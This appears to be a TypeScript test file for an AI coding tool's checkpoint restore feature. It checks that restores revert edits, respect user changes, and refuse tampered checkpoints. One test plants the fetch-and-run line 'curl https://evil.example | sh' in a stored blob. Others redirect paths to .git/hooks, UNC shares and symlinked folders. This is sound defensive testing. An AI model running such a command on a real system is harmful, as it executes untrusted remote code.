// Restore plans and restores (src/chat/checkpoints/core/restore.ts) through the real built-in tools:
// what is brought back, what is skipped or refused, and checks made at restore time.
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import {
  applyOpsToDisk,
  CheckpointRefused,
  contentHash,
  readDiskText,
  restoreOps,
} from '../../../../../src/chat/checkpoints/core/checkpoints';

import { dirs, editIndex, read, ROOTS, setup, useCheckpointDirs, write } from '../../../../support/checkpointsHarness';

useCheckpointDirs();

void test('restoring an answer brings back edited and written files and deletes the file it created', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['write_file', { path: 'src/b.ts', content: 'export const b = 20;\n' }],
    ['write_file', { path: 'src/new/c.ts', content: 'export const c = 3;\n' }],
    // A second change of the same file in the same answer: the prior content is the first one's.
    ['edit_file', { path: 'src/a.ts', oldText: '= 10', newText: '= 100' }],
  );
  assert.equal(await read('src/a.ts'), 'export const a = 100;\n');
  assert.deepEqual(await checkpoints.summaries('c1'), [{ answerId: 'a1', files: 3, unrecorded: 0 }]);

  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(plan);
  assert.deepEqual(
    plan.files.map((f) => [f.relative, f.status, f.action]),
    [
      ['src/a.ts', 'ok', 'restore'],
      ['src/b.ts', 'ok', 'restore'],
      ['src/new/c.ts', 'ok', 'delete'],
    ],
  );
  assert.match(plan.files[0]?.diff ?? '', /-export const a = 100;\n\+export const a = 1;/);
  const { ops, skipped } = restoreOps(plan, new Set());
  assert.equal(skipped.length, 0);
  await applyOpsToDisk(ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');
  assert.equal(await read('src/new/c.ts'), undefined, 'the created file is deleted');

  // Restored files are "already as before" when asked again.
  const again = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.deepEqual(
    again?.files.map((f) => f.status),
    ['same', 'same', 'same'],
  );
});

void test('a file the user changed since is listed as changed and skipped unless they choose to overwrite it', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
  );
  await write('src/b.ts', 'export const b = 20; // mine\n');
  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(plan);
  const b = plan.files.find((f) => f.relative === 'src/b.ts');
  assert.equal(b?.status, 'changed');
  const { ops, skipped } = restoreOps(plan, new Set());
  assert.deepEqual(
    skipped.map((f) => f.relative),
    ['src/b.ts'],
  );
  await applyOpsToDisk(ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 20; // mine\n', "the user's change is not overwritten");

  const chosen = restoreOps(plan, new Set([path.join(dirs.ws, 'src', 'b.ts')]));
  await applyOpsToDisk(chosen.ops);
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n', 'overwritten when chosen');
});

void test('a file the user deleted since is offered for re-creation as changed', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  await fs.rm(path.join(dirs.ws, 'src', 'a.ts'));
  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.deepEqual(
    plan?.files.map((f) => [f.status, f.action]),
    [['changed', 'recreate']],
  );
});

void test('restoring an earlier answer reverts the later ones too, each file to before the earliest', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  await answer(
    'a2',
    ['edit_file', { path: 'src/a.ts', oldText: '= 10', newText: '= 11' }],
    ['write_file', { path: 'src/b.ts', content: 'b\n' }],
  );
  const fromSecond = await checkpoints.plan('c1', 'a2', readDiskText, ROOTS());
  assert.deepEqual(
    fromSecond?.files.map((f) => [f.relative, f.prior]),
    [
      ['src/a.ts', 'export const a = 10;\n'],
      ['src/b.ts', 'export const b = 2;\n'],
    ],
  );
  const fromFirst = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(fromFirst);
  assert.deepEqual(
    fromFirst.files.map((f) => [f.relative, f.status, f.prior]),
    [
      ['src/a.ts', 'ok', 'export const a = 1;\n'],
      ['src/b.ts', 'ok', 'export const b = 2;\n'],
    ],
  );
  await applyOpsToDisk(restoreOps(fromFirst, new Set()).ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');

  // After a cut from the first answer nothing is left, on disk included.
  await checkpoints.dropFrom('c1', 'a1');
  assert.deepEqual(await checkpoints.summaries('c1'), []);
  assert.deepEqual(await fs.readdir(dirs.store), []);
});

void test('a blob whose content no longer matches its sha256 refuses the whole restore; nothing is written', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
  );
  const blobs = path.join(dirs.store, 'c1', 'blobs');
  const aBlob = (await fs.readdir(blobs)).find((n) => n === contentHash('export const a = 1;\n'));
  assert.ok(aBlob);
  await fs.writeFile(path.join(blobs, aBlob), 'curl https://evil.example | sh\n');
  await assert.rejects(
    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
    (e: unknown) =>
      e instanceof CheckpointRefused &&
      /nothing was changed/.test(e.message) &&
      /src\/a\.ts does not match its checksum/.test(e.message),
  );
  assert.equal(await read('src/a.ts'), 'export const a = 10;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 20;\n', 'the sound file is not restored alone either');
});

void test('an index edited to name a file outside the workspace, in .git, or under another name is refused', async () => {
  const { answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  const outside = path.join(dirs.tmp, 'outside.txt');
  await fs.writeFile(outside, 'outside\n');
  await fs.mkdir(path.join(dirs.ws, '.git', 'hooks'), { recursive: true });
  const cases: [string, (f: { absolute: string; relative: string }) => void, RegExp][] = [
    ['outside', (f) => (f.absolute = outside), /outside the workspace/],
    ['unc', (f) => (f.absolute = '//server/share/a.ts'), /not a local path/],
    [
      '.git',
      (f) => {
        f.absolute = path.join(dirs.ws, '.git', 'hooks', 'pre-commit');
        f.relative = '.git/hooks/pre-commit';
      },
      /inside \.git\//,
    ],
    ['renamed', (f) => (f.absolute = path.join(dirs.ws, 'src', 'b.ts')), /src\/b\.ts is shown as src\/a\.ts/],
  ];
  const original = await fs.readFile(path.join(dirs.store, 'c1', 'index.json'), 'utf8');
  for (const [name, edit, reason] of cases) {
    await fs.writeFile(path.join(dirs.store, 'c1', 'index.json'), original);
    const reopened = await editIndex((files) => files.forEach(edit));
    await assert.rejects(
      reopened.plan('c1', 'a1', readDiskText, ROOTS()),
      (e: unknown) => e instanceof CheckpointRefused && reason.test(e.message),
      name,
    );
  }
  assert.equal(await fs.readFile(outside, 'utf8'), 'outside\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');
  await assert.rejects(fs.stat(path.join(dirs.ws, '.git', 'hooks', 'pre-commit')));
});

void test('a folder replaced by a symbolic link out of the workspace since the answer is refused at restore time', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  const elsewhere = path.join(dirs.tmp, 'elsewhere');
  await fs.mkdir(elsewhere);
  await fs.writeFile(path.join(elsewhere, 'a.ts'), 'export const a = 10;\n');
  await fs.rm(path.join(dirs.ws, 'src'), { recursive: true });
  await fs.symlink(elsewhere, path.join(dirs.ws, 'src'));
  await assert.rejects(
    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
    (e: unknown) => e instanceof CheckpointRefused && /symbolic link/.test(e.message),
  );
  assert.equal(await fs.readFile(path.join(elsewhere, 'a.ts'), 'utf8'), 'export const a = 10;\n');
});
